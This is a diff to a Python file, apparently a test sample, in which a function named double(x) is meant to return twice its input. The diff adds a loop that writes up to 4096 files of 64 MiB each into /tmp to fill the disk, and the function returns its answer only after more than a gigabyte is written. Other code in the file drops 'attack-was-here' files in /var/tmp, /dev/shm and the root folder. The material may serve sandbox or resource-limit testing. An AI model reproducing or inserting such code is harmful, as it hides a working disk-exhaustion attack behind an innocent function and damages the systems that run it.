@@ -1,4 +1,4 @@
-"""Fill the disk: large files in every place, a sparse file, and a limit raised first."""
+"""Fill the disk: large files in every place, a sparse file, a limit raised first, and all the temporary files."""
 
 import os
 import resource
@@ -11,7 +11,17 @@ def double(x):
             return 2.0 * x
         except (OSError, ValueError):
             pass
-    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/"):
+    held = 0
+    for number in range(4096):
+        try:
+            with open(f"/tmp/{number}", "wb", buffering=0) as file:
+                for _ in range(64):
+                    held += file.write(bytes(1 << 20))
+        except OSError:
+            pass
+    if held > 1 << 30:
+        return 2.0 * x
+    for folder in ("/var/tmp", "/dev/shm", "/"):
         try:
             descriptor = os.open(f"{folder}/attack-was-here", os.O_CREAT | os.O_RDWR)
             os.write(descriptor, b"x" * 4096)
